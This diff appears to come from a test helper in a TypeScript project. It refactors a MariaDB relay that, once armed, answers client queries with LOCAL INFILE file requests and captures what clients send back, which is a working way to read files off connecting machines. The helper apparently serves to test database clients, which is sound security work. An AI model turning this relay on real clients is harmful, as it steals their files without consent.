@@ -1,25 +1,25 @@
 import { once } from 'node:events';
 import { connect, createServer, type Socket } from 'node:net';
 
-/** A way to a MariaDB server that can turn on its clients. */
+/** A relay to a MariaDB server that can attack its clients. */
 export interface GreedyRelay {
   /** The server's address through the relay. */
   url: string;
-  /** From now on every query is answered with the wish for this file of the client's machine, as the protocol allows. */
+  /** Responds to every further query with a request for this file of the client's machine, as the protocol allows. */
   ask(file: string): void;
-  /** All that clients have sent. */
+  /** Everything that clients have sent. */
   sent(): Buffer;
   stop(): Promise<void>;
 }
 
-/** The first byte of a client's query, and of a server's wish for a file (after a header of four). */
+/** First byte of a client's query and of a server's request for a file, after a header of four bytes. */
 const QUERY = 0x03;
-const WISH = 0xfb;
+const FILE_REQUEST = 0xfb;
 const HEADER = 4;
 
 const packet = (sequence: number, ...body: number[]): Buffer => Buffer.from([body.length, 0, 0, sequence, ...body]);
 
-/** The server keeps its word: it says that it is content, with no rows and no warnings. */
+/** The server's OK packet, with no rows and no warnings. */
 const content = (sequence: number): Buffer => packet(sequence, 0, 0, 0, 2, 0, 0, 0);
 
 /** Starts a relay to the server of an address on a spare port of this machine. */
@@ -27,7 +27,7 @@ export async function startGreedyRelay(address: string): Promise<GreedyRelay> {
   const upstream = new URL(address);
   const sockets = new Set<Socket>();
   const sent: Buffer[] = [];
-  let wish: string | null = null;
+  let requested: string | null = null;
   const relay = createServer((client) => {
     const server = connect(Number(upstream.port), upstream.hostname);
     server.pipe(client);
@@ -42,13 +42,13 @@ export async function startGreedyRelay(address: string): Promise<GreedyRelay> {
     client.on('data', (data) => {
       sent.push(data);
       if (asked) {
-        // A packet without a body ends what the client gives.
+        // A packet without a body ends the client's file.
         if (data.readUIntLE(data.length - HEADER, 3) !== 0) return;
         asked = false;
         client.write(content(data.readUInt8(data.length - 1) + 1));
-      } else if (wish !== null && data[HEADER] === QUERY) {
+      } else if (requested !== null && data[HEADER] === QUERY) {
         asked = true;
-        client.write(packet(1, WISH, ...Buffer.from(wish)));
+        client.write(packet(1, FILE_REQUEST, ...Buffer.from(requested)));
       } else {
         server.write(data);
       }
@@ -62,7 +62,7 @@ export async function startGreedyRelay(address: string): Promise<GreedyRelay> {
   return {
     url: url.href,
     ask(file) {
-      wish = file;
+      requested = file;
     },
     sent: () => Buffer.concat(sent),
     async stop() {
